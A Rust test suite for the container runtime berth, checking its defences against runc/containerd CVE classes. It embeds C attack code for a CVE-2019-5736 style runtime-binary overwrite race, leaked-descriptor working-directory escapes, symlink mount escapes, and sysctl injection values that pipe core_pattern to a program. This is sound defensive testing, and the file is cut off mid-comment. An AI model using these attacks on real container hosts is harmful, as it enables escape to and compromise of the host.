//! One test per known CVE class of runc/containerd, each showing berth's
//! defence holds with a real container. Everything the tests touch on the
//! host lives in their own temp dirs (and, for the binary-overwrite test, a
//! private copy of the berth binary).

use berth_testutil::{output_text as all, random_suffix, unique_id as id, Berth, Bundle};
use serde_json::{json, Value};
use std::fs;
use std::os::fd::{AsRawFd, RawFd};
use std::os::unix::fs::symlink;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const BERTH: &str = env!("CARGO_BIN_EXE_berth");

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn sha256(path: &Path) -> String {
    let o = Command::new("sha256sum").arg(path).output().unwrap();
    assert!(o.status.success(), "sha256sum: {}", all(&o));
    stdout(&o).split_whitespace().next().unwrap().to_string()
}

/// Compiles C source with gcc into `out`.
fn gcc(src: &str, out: &Path, flags: &[&str]) {
    let c = out.with_extension("c");
    fs::write(&c, src).unwrap();
    let o = Command::new("gcc")
        .args(flags)
        .arg("-o")
        .arg(out)
        .arg(&c)
        .output()
        .expect("gcc is needed by the security tests");
    assert!(o.status.success(), "gcc failed: {}", all(&o));
}

fn add_mount(bundle: &mut Bundle, m: Value) {
    bundle.config["mounts"].as_array_mut().unwrap().push(m);
}

fn host_mountinfo() -> String {
    fs::read_to_string("/proc/self/mountinfo").unwrap()
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

/// `path` inside `rootfs` (absolute paths taken as relative to it).
fn in_root(rootfs: &Path, path: &Path) -> PathBuf {
    rootfs.join(path.strip_prefix("/").unwrap_or(path))
}

/// A host directory under /tmp that a container must never touch.
fn host_dir(tag: &str) -> tempfile::TempDir {
    let d = tempfile::Builder::new()
        .prefix(&format!("berth-sec-{tag}-"))
        .tempdir_in("/tmp")
        .unwrap();
    fs::write(d.path().join("marker"), "host\n").unwrap();
    d
}

/// Makes each `fd` appear as `target` in the spawned command (without
/// close-on-exec), as a careless caller leaking descriptors would.
fn leak_fds(cmd: &mut Command, pairs: &[(RawFd, RawFd)]) {
    let pairs = pairs.to_vec();
    // SAFETY: fcntl/dup2 are async-signal-safe and touch only fds.
    unsafe {
        cmd.pre_exec(move || {
            // Move the sources out of the way first so no dup2 clobbers a
            // source that is still to be copied.
            let mut high = Vec::new();
            for (fd, target) in &pairs {
                let h = libc::fcntl(*fd, libc::F_DUPFD_CLOEXEC, 200);
                if h < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                high.push((h, *target));
            }
            for (h, target) in high {
                if libc::dup2(h, target) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
}

// ---------------------------------------------------------------------------
// 1. Runtime binary overwrite (CVE-2019-5736 class)
// ---------------------------------------------------------------------------

/// Shared by the preloaded library and the racer: logging to /rec/log (a
/// host dir bound into the container) and write attempts.
const ATTACK_COMMON_C: &str = r##"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char junk[] = "#!/bin/sh\necho the runtime binary was overwritten\n";

static void note(const char *fmt, ...) {
    char buf[600];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    if (n > (int)sizeof buf - 2) n = sizeof buf - 2;
    buf[n++] = '\n';
    int fd = open("/rec/log", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0) { (void)!write(fd, buf, n); close(fd); }
}

/* Returns bytes written, or -errno. */
static long try_write(const char *path, int flags) {
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0) return -errno;
    long n = write(fd, junk, sizeof junk - 1);
    long r = n > 0 ? n : -errno;
    close(fd);
    return r;
}

static void exe_of(const char *path, char *out, size_t len) {
    ssize_t l = readlink(path, out, len - 1);
    out[l > 0 ? l : 0] = 0;
}
"##;

/// Preloaded into berth's own binary when a container runs /proc/self/exe:
/// tries every known way to get /proc/self/exe open for writing. With
/// EVIL_FORK=1 a forked child then execs /racer (a separate program, so it
/// does not map the runtime binary itself) to play the classic race.
const EVIL_C: &str = r##"
static void attempt(const char *what, const char *path, int flags) {
    long r = try_write(path, flags);
    if (r > 0) note("%s: WROTE %ld bytes", what, r);
    else note("%s: refused: %s", what, strerror((int)-r));
}

static void fork_racer(void) {
    int ready[2], death[2];
    char a1[16], a2[16], a3[16], b;
    if (pipe(ready) || pipe(death)) { note("pipe: %s", strerror(errno)); return; }
    snprintf(a1, sizeof a1, "%d", (int)getpid());
    snprintf(a2, sizeof a2, "%d", ready[1]);
    snprintf(a3, sizeof a3, "%d", death[0]);
    pid_t c = fork();
    if (c < 0) { note("fork: %s", strerror(errno)); return; }
    if (c == 0) {
        close(ready[0]);
        close(death[1]);
        int null = open("/dev/null", O_RDWR);
        if (null >= 0) { dup2(null, 0); dup2(null, 1); dup2(null, 2); }
        execl("/racer", "racer", a1, a2, a3, (char *)0);
        note("exec /racer: %s", strerror(errno));
        _exit(1);
    }
    close(ready[1]);
    close(death[0]);
    /* Exit once the racer holds its O_PATH fd, as the runtime would. */
    (void)!read(ready[0], &b, 1);
}

__attribute__((constructor)) static void evil(void) {
    char link[256], fdpath[64];
    exe_of("/proc/self/exe", link, sizeof link);
    note("exe: %s", link);
    attempt("O_WRONLY", "/proc/self/exe", O_WRONLY);
    attempt("O_RDWR", "/proc/self/exe", O_RDWR);
    attempt("O_TRUNC", "/proc/self/exe", O_WRONLY | O_TRUNC);
    int p = open("/proc/self/exe", O_PATH | O_CLOEXEC);
    if (p >= 0) {
        snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", p);
        attempt("O_PATH reopen", fdpath, O_WRONLY);
        close(p);
    }
    note("evil: done");
    const char *f = getenv("EVIL_FORK");
    if (f && *f == '1') fork_racer();
    _exit(0);
}
"##;

/// racer <pid> <ready-fd> <death-fd>: holds an O_PATH fd of
/// /proc/<pid>/exe, waits for <pid> to exit, then keeps trying to reopen it
/// for writing through /proc/self/fd, as a CVE-2019-5736 exploit does.
const RACER_C: &str = r##"
int main(int argc, char **argv) {
    char path[64], link[256], b;
    if (argc < 4) return 2;
    int ready = atoi(argv[2]), death = atoi(argv[3]);
    snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
    exe_of(path, link, sizeof link);
    note("racer: exe of the berth exec process: %s", link);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) note("racer: O_PATH: %s", strerror(errno));
    (void)!write(ready, "x", 1);
    close(ready);
    while (read(death, &b, 1) > 0) {}
    if (fd >= 0) {
        long r = 0;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        for (int i = 0; i < 100 && r <= 0; i++) {
            r = try_write(path, O_WRONLY);
            if (r <= 0) usleep(20000);
        }
        if (r > 0) note("racer reopen: WROTE %ld bytes", r);
        else note("racer reopen: refused: %s", strerror((int)-r));
    }
    note("racer: done");
    return 0;
}
"##;

/// The berth binary copied to a temp dir, so an attack that succeeded could
/// only damage the copy.
struct BerthCopy {
    _dir: tempfile::TempDir,
    bin: PathBuf,
    sha: String,
}

impl BerthCopy {
    fn new() -> BerthCopy {
        let dir = tempfile::Builder::new()
            .prefix("berth-bincopy-")
            .tempdir()
            .unwrap();
        let bin = dir.path().join("berth");
        fs::copy(BERTH, &bin).unwrap();
        let sha = sha256(&bin);
        BerthCopy {
            _dir: dir,
            bin,
            sha,
        }
    }
}

/// A bundle that can run berth's own (dynamic) binary: the loader and every
/// library `ldd` lists, at their host paths, plus /evil.so and a /rec bind of
/// `rec`.
fn evil_bundle(args: &[&str], bin: &Path, rec: &Path) -> Bundle {
    let mut bundle = Bundle::new(args).unwrap();
    let rootfs = bundle.rootfs();
    let o = Command::new("ldd").arg(bin).output().unwrap();
    assert!(o.status.success(), "ldd: {}", all(&o));
    let mut copied = 0;
    for line in stdout(&o).lines() {
        let path = match line.split_once("=>") {
            Some((_, rest)) => rest.split_whitespace().next(),
            None => line.split_whitespace().next(),
        };
        let Some(path) = path.filter(|p| p.starts_with('/')) else {
            continue;
        };
        let dst = in_root(&rootfs, Path::new(path));
        fs::create_dir_all(dst.parent().unwrap()).unwrap();
        fs::copy(path, &dst).unwrap();
        copied += 1;
    }
    assert!(copied >= 2, "ldd listed no loader/libc: {}", stdout(&o));
    gcc(
        &format!("{ATTACK_COMMON_C}{EVIL_C}"),
        &rootfs.join("evil.so"),
        &["-shared", "-fPIC", "-O1", "-w"],
    );
    gcc(
        &format!("{ATTACK_COMMON_C}{RACER_C}"),
        &rootfs.join("racer"),
        &["-static", "-O1", "-w"],
    );
    add_mount(
        &mut bundle,
        json!({"destination": "/rec", "type": "bind", "source": rec, "options": ["rbind", "rw"]}),
    );
    bundle.write().unwrap();
    bundle
}

fn wait_for_line(file: &Path, needle: &str, timeout: Duration) -> String {
    let end = Instant::now() + timeout;
    loop {
        let s = fs::read_to_string(file).unwrap_or_default();
        if s.contains(needle) || Instant::now() > end {
            return s;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The container's entrypoint resolves to /proc/self/exe (directly, or via
/// a symlink in the image) with LD_PRELOAD of an attacker's library: the
/// library runs inside berth's binary but can only reach a read-only
/// (or sealed) view of it, never a writable host binary.
#[test]
fn runtime_binary_cannot_be_overwritten_from_container() {
    let copy = BerthCopy::new();
    let b = Berth::new(&copy.bin).unwrap();
    for entry in ["/proc/self/exe", "/entry"] {
        let rec = tempfile::tempdir().unwrap();
        let mut bundle = evil_bundle(&[entry], &copy.bin, rec.path());
        symlink("/proc/self/exe", bundle.rootfs().join("entry")).unwrap();
        bundle.config["process"]["env"]
            .as_array_mut()
            .unwrap()
            .push(json!("LD_PRELOAD=/evil.so"));
        bundle.write().unwrap();
        let o = b.run_fg(&bundle, &id("sec-exe"));
        let log = fs::read_to_string(rec.path().join("log")).unwrap_or_default();
        assert!(o.status.success(), "{entry}: {}\nlog:\n{log}", all(&o));
        // The attack really ran inside berth's binary...
        assert!(
            log.contains("evil: done"),
            "{entry}: evil.so did not run:\n{log}"
        );
        // berth re-executes through a detached read-only bind of itself (or
        // a sealed memfd): the exe link must never name the host binary.
        let host_exe = format!("exe: {}", copy.bin.display());
        assert!(
            log.contains("exe: ") && !log.contains(&host_exe),
            "{entry}: the container reached the host binary's path:\n{log}"
        );
        // ...and could not write to it.
        for how in ["O_WRONLY", "O_RDWR", "O_TRUNC", "O_PATH reopen"] {
            assert!(
                log.contains(&format!("{how}: refused")),
                "{entry}: {how}:\n{log}"
            );
        }
        assert!(!log.contains("WROTE"), "{entry}: a write succeeded:\n{log}");
        assert_eq!(sha256(&copy.bin), copy.sha, "{entry}: berth binary changed");
    }
}

/// `berth exec` of /proc/self/exe: the exec'd process, and a second process
/// racing to open its /proc/<pid>/exe and reopen it for writing after it
/// exits, only ever see a read-only (or sealed) view of berth.
#[test]
fn runtime_binary_cannot_be_overwritten_through_exec() {
    let copy = BerthCopy::new();
    let b = Berth::new(&copy.bin).unwrap();
    let rec = tempfile::tempdir().unwrap();
    let bundle = evil_bundle(&["sleep", "600"], &copy.bin, rec.path());
    let cid = id("sec-exec-exe");
    b.run_detached(&bundle, &cid);
    let o = b
        .cmd()
        .args(["exec", "-e", "LD_PRELOAD=/evil.so", "-e", "EVIL_FORK=1"])
        .arg(&cid)
        .arg("/proc/self/exe")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let log = wait_for_line(
        &rec.path().join("log"),
        "racer: done",
        Duration::from_secs(20),
    );
    assert!(o.status.success(), "{}\nlog:\n{log}", all(&o));
    assert!(log.contains("evil: done"), "evil.so did not run:\n{log}");
    assert!(
        log.contains("racer: done"),
        "the racer did not finish:\n{log}"
    );
    let host = copy.bin.display().to_string();
    assert!(
        log.contains("berth exec process: ")
            && !log.contains(&format!("exe: {host}"))
            && !log.contains(&format!("berth exec process: {host}")),
        "a berth exec process inside the container shows the host binary:\n{log}"
    );
    assert!(
        log.contains("racer reopen: refused"),
        "the racer never tried to reopen the exe:\n{log}"
    );
    assert!(!log.contains("WROTE"), "a write succeeded:\n{log}");
    assert_eq!(sha256(&copy.bin), copy.sha, "berth binary changed");
    b.ok(&["delete", "--force", &cid]);
}

// ---------------------------------------------------------------------------
// 2. Leaked file descriptors (CVE-2024-21626 class)
// ---------------------------------------------------------------------------

/// With a host directory leaked to berth as fd 5 and process.cwd set to
/// /proc/self/fd/N (the leaked fd, or any fd berth holds itself), the
/// container must either be refused or start inside its own root.
#[test]
fn leaked_fd_cannot_become_cwd() {
    let host = host_dir("cwd");
    let dirfd = fs::File::open(host.path()).unwrap();
    let b = Berth::new(BERTH).unwrap();
    for n in 3..=9 {
        let mut bundle = Bundle::new(&["sh", "-c", "ls; pwd"]).unwrap();
        bundle.config["process"]["cwd"] = json!(format!("/proc/self/fd/{n}"));
        bundle.write().unwrap();
        let mut cmd = b.cmd();
        cmd.args(["run", "--bundle"])
            .arg(bundle.path())
            .arg(id("sec-cwd"))
            .stdin(Stdio::null());
        leak_fds(&mut cmd, &[(dirfd.as_raw_fd(), 5)]);
        let o = cmd.output().unwrap();
        let out = stdout(&o);
        assert!(
            !out.contains("marker"),
            "fd {n}: the host dir became the cwd: {}",
            all(&o)
        );
        if o.status.success() {
            // pwd prints "(unreachable)/..." for a cwd outside the root.
            let pwd = out.lines().last().unwrap_or("");
            assert!(
                pwd.starts_with('/'),
                "fd {n}: cwd outside the root: {}",
                all(&o)
            );
        } else {
            assert!(
                String::from_utf8_lossy(&o.stderr).contains("process.cwd"),
                "fd {n}: refused without naming process.cwd: {}",
                all(&o)
            );
        }
    }
    assert_eq!(names_in(host.path()), ["marker"]);
}

/// The same through `berth exec --cwd`.
#[test]
fn leaked_fd_cannot_become_exec_cwd() {
    let host = host_dir("execcwd");
    let dirfd = fs::File::open(host.path()).unwrap();
    let b = Berth::new(BERTH).unwrap();
    let bundle = Bundle::new(&["sleep", "600"]).unwrap();
    let cid = id("sec-execcwd");
    b.run_detached(&bundle, &cid);
    for n in 3..=9 {
        let mut cmd = b.cmd();
        cmd.args([
            "exec",
            "--cwd",
            &format!("/proc/self/fd/{n}"),
            &cid,
            "sh",
            "-c",
            "ls; pwd",
        ])
        .stdin(Stdio::null());
        leak_fds(&mut cmd, &[(dirfd.as_raw_fd(), 5)]);
        let o = cmd.output().unwrap();
        assert!(
            !stdout(&o).contains("marker"),
            "fd {n}: the host dir became the cwd: {}",
            all(&o)
        );
        if !o.status.success() {
            assert!(
                String::from_utf8_lossy(&o.stderr).contains("process.cwd"),
                "fd {n}: refused without naming process.cwd: {}",
                all(&o)
            );
        }
    }
    b.ok(&["delete", "--force", &cid]);
}

/// The fds a container process starts with, from `ls /proc/self/fd` (which
/// shows ls's own directory fd too: the lowest free number).
fn container_fds(preserve: Option<&str>, leak: &[(RawFd, RawFd)], script: &str) -> Output {
    let b = Berth::new(BERTH).unwrap();
    let bundle = Bundle::new(&["sh", "-c", script]).unwrap();
    let mut cmd = b.cmd();
    cmd.arg("run");
    if let Some(p) = preserve {
        cmd.args(["--preserve-fds", p]);
    }
    cmd.arg("--bundle")
        .arg(bundle.path())
        .arg(id("sec-fds"))
        .stdin(Stdio::null());
    leak_fds(&mut cmd, leak);
    cmd.output().unwrap()
}

#[test]
fn only_stdio_and_preserved_fds_reach_the_container() {
    let host = host_dir("fds");
    let dirfd = fs::File::open(host.path()).unwrap();
    let data = host.path().join("passed");
    fs::write(&data, "preserved fd content\n").unwrap();
    let file = fs::File::open(&data).unwrap();
    let (d, f) = (dirfd.as_raw_fd(), file.as_raw_fd());

    // berth gets fds 3, 4 and 7; the container gets none of them.
    let o = container_fds(None, &[(f, 3), (d, 4), (d, 7)], "ls /proc/self/fd");
    assert!(o.status.success(), "{}", all(&o));
    let out = stdout(&o);
    let fds: Vec<&str> = out.split_whitespace().collect();
    assert_eq!(
        fds,
        ["0", "1", "2", "3"],
        "only stdio (+ ls's dir fd 3): {}",
        all(&o)
    );

    // --preserve-fds 1 passes exactly fd 3, still not 4 or 7.
    let o = container_fds(
        Some("1"),
        &[(f, 3), (d, 4), (d, 7)],
        "ls /proc/self/fd; cat <&3",
    );
    assert!(o.status.success(), "{}", all(&o));
    let out = stdout(&o);
    let mut lines = out.lines();
    let fds: Vec<&str> = lines.by_ref().take(5).collect();
    assert_eq!(
        fds,
        ["0", "1", "2", "3", "4"],
        "stdio, fd 3 (+ ls's dir fd 4): {}",
        all(&o)
    );
    assert_eq!(lines.next(), Some("preserved fd content"), "{}", all(&o));
}

/// The same for `berth exec`: a process exec'd into a running container
/// gets stdio, and with `--preserve-fds N` fds 3..3+N, never the other fds
/// its caller leaked to berth.
#[test]
fn only_stdio_and_preserved_fds_reach_an_exec_process() {
    let host = host_dir("execfds");
    let dirfd = fs::File::open(host.path()).unwrap();
    let data = host.path().join("passed");
    fs::write(&data, "preserved fd content\n").unwrap();
    let file = fs::File::open(&data).unwrap();
    let (d, f) = (dirfd.as_raw_fd(), file.as_raw_fd());
    let b = Berth::new(BERTH).unwrap();
    let bundle = Bundle::new(&["sleep", "600"]).unwrap();
    let cid = id("sec-execfds");
    b.run_detached(&bundle, &cid);
    let exec = |preserve: Option<&str>, script: &str| {
        let mut cmd = b.cmd();
        cmd.arg("exec");
        if let Some(p) = preserve {
            cmd.args(["--preserve-fds", p]);
        }
        cmd.args([&cid, "sh", "-c", script]).stdin(Stdio::null());
        leak_fds(&mut cmd, &[(f, 3), (d, 4), (d, 7)]);
        cmd.output().unwrap()
    };

    let o = exec(None, "ls /proc/self/fd");
    assert!(o.status.success(), "{}", all(&o));
    let out = stdout(&o);
    let fds: Vec<&str> = out.split_whitespace().collect();
    assert_eq!(
        fds,
        ["0", "1", "2", "3"],
        "only stdio (+ ls's dir fd 3): {}",
        all(&o)
    );

    let o = exec(Some("1"), "ls /proc/self/fd; cat <&3");
    assert!(o.status.success(), "{}", all(&o));
    let out = stdout(&o);
    let mut lines = out.lines();
    let fds: Vec<&str> = lines.by_ref().take(5).collect();
    assert_eq!(
        fds,
        ["0", "1", "2", "3", "4"],
        "stdio, fd 3 (+ ls's dir fd 4): {}",
        all(&o)
    );
    assert_eq!(lines.next(), Some("preserved fd content"), "{}", all(&o));

    // --preserve-fds 5 passes whatever of 3..7 is open: 3, 4 and 7.
    let o = exec(Some("5"), "ls /proc/self/fd");
    assert!(o.status.success(), "{}", all(&o));
    let out = stdout(&o);
    let fds: Vec<&str> = out.split_whitespace().collect();
    for want in ["3", "4", "7"] {
        assert!(fds.contains(&want), "fd {want} not passed: {}", all(&o));
    }
    b.ok(&["delete", "--force", &cid]);
}

// ---------------------------------------------------------------------------
// 3. Symlinks in mount targets
// ---------------------------------------------------------------------------

/// "/../../../../../<abs>": a relative-looking escape through the root.
fn dotdot(abs: &Path) -> String {
    format!("/../../../../..{}", abs.display())
}

/// Mount destinations that traverse symlinks pointing out of the rootfs
/// (relative "../" escapes and absolute host paths) land inside the rootfs.
#[test]
fn mount_targets_through_symlinks_stay_in_rootfs() {
    let host = host_dir("mnt");
    let src = tempfile::tempdir().unwrap();
    fs::write(src.path().join("from-source"), "bind source\n").unwrap();
    let mut bundle = Bundle::new(&[
        "sh",
        "-c",
        "cat /abs/y/from-source; awk '{print \"mountpoint\", $5}' /proc/self/mountinfo",
    ])
    .unwrap();
    let rootfs = bundle.rootfs();
    symlink(dotdot(host.path()), rootfs.join("mnt")).unwrap();
    symlink(host.path(), rootfs.join("abs")).unwrap();
    let inside = in_root(&rootfs, host.path());
    fs::create_dir_all(&inside).unwrap();
    add_mount(
        &mut bundle,
        json!({"destination": "/mnt/x", "type": "tmpfs", "source": "tmpfs"}),
    );
    add_mount(
        &mut bundle,
        json!({"destination": "/abs/y", "type": "bind", "source": src.path(), "options": ["bind", "ro"]}),
    );
    bundle.write().unwrap();
    let b = Berth::new(BERTH).unwrap();
    let o = b.run_fg(&bundle, &id("sec-mnt"));
    assert!(o.status.success(), "{}", all(&o));
    let out = stdout(&o);
    assert!(out.contains("bind source"), "{}", all(&o));
    // The container sees both mounts at the symlinks' targets in its root.
    for m in ["x", "y"] {
        let want = format!("mountpoint {}", host.path().join(m).display());
        assert!(out.lines().any(|l| l == want), "no {want}: {}", all(&o));
        assert!(inside.join(m).is_dir(), "{m} was not created in the rootfs");
    }
    assert_eq!(
        names_in(host.path()),
        ["marker"],
        "the host dir was written to"
    );
    let hm = host_mountinfo();
    assert!(
        !hm.contains(&*host.path().to_string_lossy()),
        "host mount: {hm}"
    );
}

/// The same with dangling escapes (the target does not exist in the
/// rootfs): refusing is fine, writing to the host is not.
#[test]
fn dangling_symlink_mount_targets_never_reach_the_host() {
    let host = host_dir("dangle");
    for link in [dotdot(host.path()), host.path().display().to_string()] {
        let mut bundle = Bundle::new(&["true"]).unwrap();
        symlink(&link, bundle.rootfs().join("mnt")).unwrap();
        add_mount(
            &mut bundle,
            json!({"destination": "/mnt/x", "type": "tmpfs", "source": "tmpfs"}),
        );
        bundle.write().unwrap();
        let b = Berth::new(BERTH).unwrap();
        let o = b.run_fg(&bundle, &id("sec-dangle"));
        if o.status.success() {
            assert!(in_root(&bundle.rootfs(), &host.path().join("x")).is_dir());
        } else {
            assert!(
                String::from_utf8_lossy(&o.stderr).contains("/mnt/x"),
                "error does not name the mount: {}",
                all(&o)
            );
        }
        assert_eq!(
            names_in(host.path()),
            ["marker"],
            "{link}: host dir written to"
        );
        assert!(!host_mountinfo().contains(&*host.path().to_string_lossy()));
    }
}

/// maskedPaths and readonlyPaths entries that traverse a symlink pointing
/// outside are resolved inside the container's root.
#[test]
fn masked_and_readonly_paths_through_symlinks_stay_in_rootfs() {
    let host = host_dir("mask");
    fs::write(host.path().join("secret"), "host secret\n").unwrap();
    fs::create_dir(host.path().join("rw")).unwrap();
    let mut bundle = Bundle::new(&[
        "sh",
        "-c",
        "cat /mnt/secret; echo end; touch /mnt/rw/f && echo touched || echo read-only; \
         touch /abs/other/f && echo other-writable",
    ])
    .unwrap();
    let rootfs = bundle.rootfs();
    symlink(dotdot(host.path()), rootfs.join("mnt")).unwrap();
    symlink(host.path(), rootfs.join("abs")).unwrap();
    let inside = in_root(&rootfs, host.path());
    fs::create_dir_all(inside.join("rw")).unwrap();
    fs::create_dir_all(inside.join("other")).unwrap();
    fs::write(inside.join("secret"), "container secret\n").unwrap();
    bundle.config["root"]["readonly"] = json!(false);
    let linux = &mut bundle.config["linux"];
    linux["maskedPaths"]
        .as_array_mut()
        .unwrap()
        .push(json!("/mnt/secret"));
    linux["readonlyPaths"]
        .as_array_mut()
        .unwrap()
        .push(json!("/abs/rw"));
    bundle.write().unwrap();
    let b = Berth::new(BERTH).unwrap();
    let o = b.run_fg(&bundle, &id("sec-mask"));
    assert!(o.status.success(), "{}", all(&o));
    let out = stdout(&o);
    // Masked and read-only inside the container...
    assert!(out.starts_with("end\n"), "secret not masked: {}", all(&o));
    assert!(
        out.contains("read-only") && !out.contains("touched"),
        "{}",
        all(&o)
    );
    assert!(out.contains("other-writable"), "{}", all(&o));
    assert!(!inside.join("rw/f").exists());
    // ...and nothing happened on the host.
    assert_eq!(
        fs::read_to_string(host.path().join("secret")).unwrap(),
        "host secret\n"
    );
    assert_eq!(names_in(host.path()), ["marker", "rw", "secret"]);
    assert!(names_in(&host.path().join("rw")).is_empty());
    assert!(!host_mountinfo().contains(&*host.path().to_string_lossy()));
}

/// procfs and sysfs never get mounted on a symlink (a planted /proc link
/// would redirect every later /proc write).
#[test]
fn proc_and_sys_mounts_on_symlinks_are_refused() {
    let host = host_dir("procln");
    for (dir, idx) in [("proc", 0), ("sys", 5)] {
        let bundle = Bundle::new(&["true"]).unwrap();
        assert_eq!(
            bundle.config["mounts"][idx]["destination"],
            json!(format!("/{dir}"))
        );
        let rootfs = bundle.rootfs();
        fs::remove_dir(rootfs.join(dir)).unwrap();
        fs::create_dir_all(in_root(&rootfs, host.path())).unwrap();
        symlink(host.path(), rootfs.join(dir)).unwrap();
        let b = Berth::new(BERTH).unwrap();
        let o = b.run_fg(&bundle, &id("sec-procln"));
        assert!(
            !o.status.success(),
            "{dir} mounted on a symlink: {}",
            all(&o)
        );
        assert!(
            String::from_utf8_lossy(&o.stderr).contains(&format!("mounts[{idx}] (/{dir})")),
            "error does not name the mount: {}",
            all(&o)
        );
        assert!(
            b.ok(&["list", "-q"]).trim().is_empty(),
            "a failed create left state"
        );
        assert_eq!(names_in(host.path()), ["marker"]);
        assert!(!host_mountinfo().contains(&*host.path().to_string_lossy()));
    }
}

// ---------------------------------------------------------------------------
// 4. /proc writes only to a real procfs (CVE-2019-19921 / CVE-2019-16884)
// ---------------------------------------------------------------------------

/// A fake /proc or /proc/sys (or a file bound over a sysctl) must not
/// receive a sysctl value.
#[test]
fn sysctl_is_never_written_to_a_fake_proc() {
    let fake = tempfile::tempdir().unwrap();
    let fake_proc = fake.path().join("proc");
    let fake_sys = fake.path().join("sys");
    let fake_file = fake.path().join("ip_forward");
    fs::create_dir_all(fake_proc.join("sys/net/ipv4")).unwrap();
    fs::create_dir_all(fake_sys.join("net/ipv4")).unwrap();
    let files = [
        fake_proc.join("sys/net/ipv4/ip_forward"),
        fake_sys.join("net/ipv4/ip_forward"),
        fake_file.clone(),
    ];
    for f in &files {
        fs::write(f, "fake\n").unwrap();
    }
    let bind = |src: &Path, dst: &str| json!({"destination": dst, "type": "bind", "source": src, "options": ["rbind"]});
    let cases: Vec<(&str, Vec<Value>)> = vec![
        ("bind over /proc", vec![bind(&fake_proc, "/proc")]),
        ("bind over /proc/sys", vec![bind(&fake_sys, "/proc/sys")]),
        (
            "tmpfs over /proc",
            vec![
                json!({"destination": "/proc", "type": "tmpfs", "source": "tmpfs"}),
                bind(&fake_file, "/proc/sys/net/ipv4/ip_forward"),
            ],
        ),
        (
            "file over a sysctl",
            vec![bind(&fake_file, "/proc/sys/net/ipv4/ip_forward")],
        ),
    ];
    let b = Berth::new(BERTH).unwrap();
    for (name, mounts) in cases {
        let mut bundle = Bundle::new(&["true"]).unwrap();
        for m in mounts {
            add_mount(&mut bundle, m);
        }
        bundle.config["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1"});
        bundle.write().unwrap();
        let o = b.run_fg(&bundle, &id("sec-fakeproc"));
        assert!(!o.status.success(), "{name}: create succeeded: {}", all(&o));
        assert!(
            String::from_utf8_lossy(&o.stderr).contains("linux.sysctl.net.ipv4.ip_forward"),
            "{name}: error does not name the sysctl: {}",
            all(&o)
        );
        for f in &files {
            assert_eq!(
                fs::read_to_string(f).unwrap(),
                "fake\n",
                "{name}: {} written",
                f.display()
            );
        }
    }
    // Control: the same sysctl on the real procfs works.
    let mut bundle = Bundle::new(&["cat", "/proc/sys/net/ipv4/ip_forward"]).unwrap();
    bundle.config["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1"});
    bundle.write().unwrap();
    let o = b.run_fg(&bundle, &id("sec-realproc"));
    assert!(o.status.success(), "{}", all(&o));
    assert_eq!(stdout(&o).trim(), "1");
}

// ---------------------------------------------------------------------------
// 5. sysctl injection
// ---------------------------------------------------------------------------

#[test]
fn sysctl_injection_is_rejected() {
    let core = "/proc/sys/kernel/core_pattern";
    let fwd = "/proc/sys/net/ipv4/ip_forward";
    let before = (
        fs::read_to_string(core).unwrap(),
        fs::read_to_string(fwd).unwrap(),
    );
    let cases = [
        ("kernel.core_pattern", "|/tmp/berth-evil"),
        ("kernel/core_pattern", "|/tmp/berth-evil"),
        ("net/../../kernel/core_pattern", "|/tmp/berth-evil"),
        ("net.ipv4/../../kernel.core_pattern", "|/tmp/berth-evil"),
        ("net.ipv4.ip_forward\n", "1"),
        (
            "net.ipv4.ip_forward",
            "1\nkernel.core_pattern=|/tmp/berth-evil",
        ),
    ];
    let b = Berth::new(BERTH).unwrap();
    for (key, val) in cases {
        let mut bundle = Bundle::new(&["true"]).unwrap();
        bundle.config["linux"]["sysctl"] = json!({ key: val });
        bundle.write().unwrap();
        let o = b.run_fg(&bundle, &id("sec-sysctl"));
        assert!(!o.status.success(), "{key:?}={val:?} accepted: {}", all(&o));
        assert!(
            String::from_utf8_lossy(&o.stderr).contains(&format!("linux.sysctl.{key}")),
            "{key:?}: error does not name linux.sysctl.{key}: {}",
            all(&o)
        );
        assert!(
            b.ok(&["list", "-q"]).trim().is_empty(),
            "a rejected config left state"
        );
    }
    let after = (
        fs::read_to_string(core).unwrap(),
        fs::read_to_string(fwd).unwrap(),
    );
    assert_eq!(before, after, "host sysctls changed");
}

// ---------------------------------------------------------------------------
// 6. Abstract unix sockets
// ---------------------------------------------------------------------------

/// Connects to the abstract unix socket named argv[1] and sends a line.
const UCONNECT_C: &str = r#"
#include <errno.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv) {
    struct sockaddr_un a;
    if (argc < 2) return 2;
    size_t n = strlen(argv[1]);
    if (n + 1 > sizeof a.sun_path) return 2;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    memcpy(a.sun_path + 1, argv[1], n);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + n) != 0) {
        printf("connect: %s\n", strerror(errno));
        return 1;
    }
    const char msg[] = "hello from the container\n";
    if (write(s, msg, sizeof msg - 1) < 0) return 1;
    printf("connected\n");
    return 0;
}
"#;

/// Abstract sockets belong to the network namespace: a container with its
